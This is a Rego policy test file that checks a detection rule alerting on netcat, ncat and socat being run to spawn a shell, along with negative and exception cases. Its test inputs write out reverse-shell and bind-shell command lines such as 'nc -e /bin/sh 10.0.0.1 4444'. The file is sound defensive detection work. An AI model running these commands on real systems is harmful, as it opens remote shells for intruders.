package bailiff.exec_netcat_test

import data.bailiff.exec.alert

act(name, args) := {
	"process": {"exe": {"path": "/usr/bin/bash"}, "ancestors": [], "uid": 0, "loginuid": 0, "traits": []},
	"file": {"path": concat("/", ["/usr/bin", name]), "name": name, "traits": []},
	"args": args,
}

fires(input_document) if {
	count(alert) > 0 with input as input_document
}

test_execute if fires(act("nc.traditional", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]))

test_command if fires(act("ncat", ["ncat", "-lvc", "id", "-p", "9"]))

test_long_option if fires(act("ncat", ["ncat", "--sh-exec", "id", "h", "9"]))

test_socat if fires(act("socat", ["socat", "TCP:h:1", "EXEC:/bin/sh,pty"]))

test_plain if not fires(act("nc.openbsd", ["nc", "-zv", "localhost", "80"]))

test_other_program if not fires(act("bash", ["bash", "-c", "id"]))

test_exception if {
	count(alert) == 0 with input as act("ncat", ["ncat", "-e", "/bin/sh"])
		with data.exceptions.nc_exec_option.exe as ["/usr/bin/bash"]
}
